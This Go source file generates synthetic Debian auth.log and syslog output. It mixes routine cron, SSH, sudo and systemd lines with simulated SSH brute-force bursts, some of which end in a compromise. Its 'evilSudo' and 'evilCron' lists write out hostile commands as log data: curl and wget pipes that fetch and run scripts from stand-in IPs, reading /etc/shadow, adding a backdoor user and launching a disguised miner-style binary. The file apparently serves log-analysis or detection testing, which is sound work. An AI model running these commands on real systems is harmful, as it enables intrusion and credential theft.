package loggen

import "strconv"

// auth.log and /var/log/syslog as rsyslog writes them on Debian with the
// traditional file format: "Nov 16 00:00:01 web01 sshd[1234]: message".
// The message texts are those of OpenSSH 9, linux-pam, sudo, shadow-utils,
// systemd 252 and the kernel's UFW logging.

var (
	sshUsers    = []string{"deploy", "ubuntu", "admin", "backup", "git"}
	guessUsers  = []string{"root", "admin", "test", "user", "oracle", "postgres", "ubuntu", "guest", "ftpuser", "pi", "support", "git", "mysql", "tomcat", "www", "deploy", "hadoop", "jenkins", "minecraft", "steam"}
	sudoCmds    = []string{"/usr/bin/systemctl reload nginx", "/usr/bin/systemctl status php8.2-fpm", "/usr/bin/apt-get update", "/usr/bin/journalctl -u nginx --since today", "/usr/bin/tail -n 200 /var/log/nginx/error.log", "/usr/sbin/nginx -t"}
	evilSudo    = []string{"/bin/bash", "/usr/bin/su -", "/usr/sbin/useradd -m -s /bin/bash backup2", "/usr/bin/crontab -e", "/usr/bin/cat /etc/shadow"}
	cronCmds    = []string{"[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi", "cd / && run-parts --report /etc/cron.hourly", "/usr/local/bin/backup.sh >/dev/null 2>&1", "php /var/www/shop/bin/console messenger:consume --time-limit=55", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }"}
	evilCron    = []string{"curl -fsSL http://203.0.113.66/x.sh | sh", "wget -q -O- http://198.51.100.23/k | bash", "/tmp/.X11-unix/.x/kswapd0 -c /tmp/.X11-unix/.x/config.json"}
	units       = []string{"logrotate.service - Rotate log files", "man-db.service - Daily man-db regeneration", "apt-daily.service - Daily apt download activities", "phpsessionclean.service - Clean php session files", "certbot.service - Certbot", "sysstat-collect.service - system activity accounting tool", "fstrim.service - Discard unused blocks on filesystems from /etc/fstab"}
	sshKeyHashs = []string{"SHA256:nThbg6kXUpJWGl7E1IGOCspRomTxdCARLviKw6E5SY8", "SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU", "SHA256:2mQe6RNMtHY1IvXzY/uWpvGdC2PwGM0R4V5FpOJ5Y5c"}
)

type syslogGen struct {
	*gen
	host      string
	admins    []string // where the admins log in from
	internet  []string // guessers
	pid       int
	session   int
	withNoise bool // syslog: the non-auth daemons too
	normal    weighted
	meanLen   float64
	b         burst
}

func newAuth(g *gen) line   { return newSyslogGen(g, false) }
func newSyslog(g *gen) line { return newSyslogGen(g, true) }

func newSyslogGen(g *gen, noise bool) line {
	s := &syslogGen{gen: g, host: "web01", admins: ipPool(g, 6, true), internet: ipPool(g, 5000, true), pid: 1000, session: 100, withNoise: noise}
	// A guessing burst is 20-100 attempts of ~4.5 lines; startAttack counts
	// in records, so scale by the mean lines of a normal record.
	if noise {
		// cron, ssh login, sudo, systemd units, UFW blocks, timesync/other
		s.normal = newWeighted(20, 6, 3, 25, 35, 11)
		s.meanLen = 60 * 4.5 / 1.86
	} else {
		s.normal = newWeighted(70, 20, 10, 0, 0, 0)
		s.meanLen = 60 * 4.5 / 2.9
	}
	return s.next
}

// hdr appends "Nov 16 00:00:01 web01 prog[pid]: ".
func (s *syslogGen) hdr(b []byte, prog string, pid int) []byte {
	b = append(b, s.clock.syslog...)
	b = append(b, ' ')
	b = append(b, s.host...)
	b = append(b, ' ')
	b = append(b, prog...)
	if pid > 0 {
		b = append(b, '[')
		b = strconv.AppendInt(b, int64(pid), 10)
		b = append(b, ']')
	}
	return append(b, ": "...)
}

func (s *syslogGen) nextPID() int {
	s.pid += 1 + s.r.IntN(40)
	if s.pid > 4000000 {
		s.pid = 1000
	}
	return s.pid
}

func (s *syslogGen) next(b []byte) ([]byte, int, bool) {
	s.clock.advance(s.gen, 400)
	if s.b.left == 0 && s.startAttack(s.meanLen) {
		s.b = burst{left: 20 + s.r.IntN(81), actor: s.r.IntN(len(s.internet)), base: s.nextPID()}
		if s.r.IntN(20) == 0 {
			s.b.kind = 1 // a guess that worked, then a root shell
		}
	}
	if s.b.left > 0 {
		s.b.left--
		s.b.n++
		start := len(b)
		b = s.guess(b)
		return b, countLines(b[start:]), true
	}
	start := len(b)
	switch s.normal.pick(s.gen) {
	case 0:
		b = s.cron(b)
	case 1:
		b = s.login(b)
	case 2:
		b = s.sudo(b, pick(s.gen, sshUsers), pick(s.gen, sudoCmds))
	case 3:
		b = s.hdr(b, "systemd", 1)
		b = append(b, "Starting "...)
		u := pick(s.gen, units)
		b = append(b, u...)
		b = append(b, "...\n"...)
		b = s.hdr(b, "systemd", 1)
		for i := 0; i < len(u); i++ {
			if u[i] == ' ' {
				b = append(b, u[:i]...)
				break
			}
		}
		b = append(b, ": Deactivated successfully.\n"...)
		b = s.hdr(b, "systemd", 1)
		b = append(b, "Finished "...)
		b = append(b, u...)
		b = append(b, ".\n"...)
	case 4:
		b = s.hdr(b, "kernel", 0)
		b = append(b, '[')
		b = strconv.AppendInt(b, s.clock.sec-1794700000, 10)
		b = append(b, ".123456] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC="...)
		b = append(b, s.internet[s.r.IntN(len(s.internet))]...)
		b = append(b, " DST=198.51.100.10 LEN=44 TOS=0x00 PREC=0x00 TTL=240 ID=54321 PROTO=TCP SPT="...)
		b = strconv.AppendInt(b, int64(1024+s.r.IntN(60000)), 10)
		b = append(b, " DPT="...)
		b = strconv.AppendInt(b, int64([...]int{23, 3389, 5900, 8080, 6379, 445, 1433}[s.r.IntN(7)]), 10)
		b = append(b, " WINDOW=1024 RES=0x00 SYN URGP=0 \n"...)
	default:
		switch s.r.IntN(3) {
		case 0:
			b = s.hdr(b, "systemd-timesyncd", 512)
			b = append(b, "Initial synchronization to time server 162.159.200.123:123 (2.debian.pool.ntp.org).\n"...)
		case 1:
			b = s.hdr(b, "rsyslogd", 498)
			b = append(b, "[origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"498\" x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed\n"...)
		default:
			b = s.hdr(b, "php-fpm8.2", 733)
			b = append(b, "[pool www] child "...)
			b = strconv.AppendInt(b, int64(s.nextPID()), 10)
			b = append(b, " exited with code 0 after 3600.012412 seconds from start\n"...)
		}
	}
	return b, countLines(b[start:]), false
}

func countLines(b []byte) int {
	n := 0
	for _, c := range b {
		if c == '\n' {
			n++
		}
	}
	return n
}

func (s *syslogGen) cron(b []byte) []byte {
	pid := s.nextPID()
	user := "root"
	if s.r.IntN(4) == 0 {
		user = "www-data"
	}
	if s.withNoise {
		b = s.hdr(b, "CRON", pid)
		b = append(b, '(')
		b = append(b, user...)
		b = append(b, ") CMD ("...)
		b = append(b, pick(s.gen, cronCmds)...)
		return append(b, ")\n"...)
	}
	uid := "0"
	if user == "www-data" {
		uid = "33"
	}
	b = s.hdr(b, "CRON", pid)
	b = append(b, "pam_unix(cron:session): session opened for user "...)
	b = append(b, user...)
	b = append(b, "(uid="...)
	b = append(b, uid...)
	b = append(b, ") by (uid=0)\n"...)
	b = s.hdr(b, "CRON", pid)
	b = append(b, "pam_unix(cron:session): session closed for user "...)
	b = append(b, user...)
	return append(b, '\n')
}

func (s *syslogGen) login(b []byte) []byte {
	pid := s.nextPID()
	user := pick(s.gen, sshUsers)
	from := pick(s.gen, s.admins)
	port := int64(40000 + s.r.IntN(25000))
	s.session++
	b = s.hdr(b, "sshd", pid)
	b = append(b, "Accepted publickey for "...)
	b = append(b, user...)
	b = append(b, " from "...)
	b = append(b, from...)
	b = append(b, " port "...)
	b = strconv.AppendInt(b, port, 10)
	b = append(b, " ssh2: ED25519 "...)
	b = append(b, pick(s.gen, sshKeyHashs)...)
	b = append(b, '\n')
	b = s.hdr(b, "sshd", pid)
	b = append(b, "pam_unix(sshd:session): session opened for user "...)
	b = append(b, user...)
	b = append(b, "(uid=1000) by (uid=0)\n"...)
	b = s.hdr(b, "systemd-logind", 402)
	b = append(b, "New session "...)
	b = strconv.AppendInt(b, int64(s.session), 10)
	b = append(b, " of user "...)
	b = append(b, user...)
	b = append(b, ".\n"...)
	b = s.hdr(b, "sshd", pid)
	b = append(b, "Received disconnect from "...)
	b = append(b, from...)
	b = append(b, " port "...)
	b = strconv.AppendInt(b, port, 10)
	b = append(b, ":11: disconnected by user\n"...)
	b = s.hdr(b, "sshd", pid)
	b = append(b, "pam_unix(sshd:session): session closed for user "...)
	b = append(b, user...)
	b = append(b, '\n')
	b = s.hdr(b, "systemd-logind", 402)
	b = append(b, "Removed session "...)
	b = strconv.AppendInt(b, int64(s.session), 10)
	return append(b, ".\n"...)
}

func (s *syslogGen) sudo(b []byte, user, cmd string) []byte {
	b = s.hdr(b, "sudo", 0)
	b = append(b, "  "...)
	b = append(b, user...)
	b = append(b, " : TTY=pts/0 ; PWD=/home/"...)
	b = append(b, user...)
	b = append(b, " ; USER=root ; COMMAND="...)
	b = append(b, cmd...)
	b = append(b, '\n')
	pid := s.nextPID()
	b = s.hdr(b, "sudo", pid)
	b = append(b, "pam_unix(sudo:session): session opened for user root(uid=0) by "...)
	b = append(b, user...)
	b = append(b, "(uid=1000)\n"...)
	b = s.hdr(b, "sudo", pid)
	return append(b, "pam_unix(sudo:session): session closed for user root\n"...)
}

// guess appends one SSH password guess of the burst (OpenSSH 9 with PAM
// writes these lines for each attempt), and for a burst that succeeds, the
// login and what the intruder did with it.
func (s *syslogGen) guess(b []byte) []byte {
	ip := s.internet[s.b.actor]
	pid := s.nextPID()
	port := int64(30000 + s.r.IntN(35000))
	if s.b.left == 0 && s.b.kind == 1 {
		b = s.hdr(b, "sshd", pid)
		b = append(b, "Accepted password for deploy from "...)
		b = append(b, ip...)
		b = append(b, " port "...)
		b = strconv.AppendInt(b, port, 10)
		b = append(b, " ssh2\n"...)
		b = s.hdr(b, "sshd", pid)
		b = append(b, "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)\n"...)
		b = s.sudo(b, "deploy", pick(s.gen, evilSudo))
		if s.withNoise {
			b = s.hdr(b, "CRON", s.nextPID())
			b = append(b, "(deploy) CMD ("...)
			b = append(b, pick(s.gen, evilCron)...)
			b = append(b, ")\n"...)
		}
		return b
	}
	user := guessUsers[(s.b.base+s.b.n)%len(guessUsers)]
	if user == "root" {
		b = s.hdr(b, "sshd", pid)
		b = append(b, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost="...)
		b = append(b, ip...)
		b = append(b, "  user=root\n"...)
		b = s.hdr(b, "sshd", pid)
		b = append(b, "Failed password for root from "...)
		b = append(b, ip...)
	} else {
		b = s.hdr(b, "sshd", pid)
		b = append(b, "Invalid user "...)
		b = append(b, user...)
		b = append(b, " from "...)
		b = append(b, ip...)
		b = append(b, " port "...)
		b = strconv.AppendInt(b, port, 10)
		b = append(b, '\n')
		b = s.hdr(b, "sshd", pid)
		b = append(b, "pam_unix(sshd:auth): check pass; user unknown\n"...)
		b = s.hdr(b, "sshd", pid)
		b = append(b, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost="...)
		b = append(b, ip...)
		b = append(b, '\n')
		b = s.hdr(b, "sshd", pid)
		b = append(b, "Failed password for invalid user "...)
		b = append(b, user...)
		b = append(b, " from "...)
		b = append(b, ip...)
	}
	b = append(b, " port "...)
	b = strconv.AppendInt(b, port, 10)
	b = append(b, " ssh2\n"...)
	b = s.hdr(b, "sshd", pid)
	b = append(b, "Connection closed by authenticating user "...)
	if user != "root" {
		b = b[:len(b)-len("authenticating user ")]
		b = append(b, "invalid user "...)
	}
	b = append(b, user...)
	b = append(b, ' ')
	b = append(b, ip...)
	b = append(b, " port "...)
	b = strconv.AppendInt(b, port, 10)
	return append(b, " [preauth]\n"...)
}
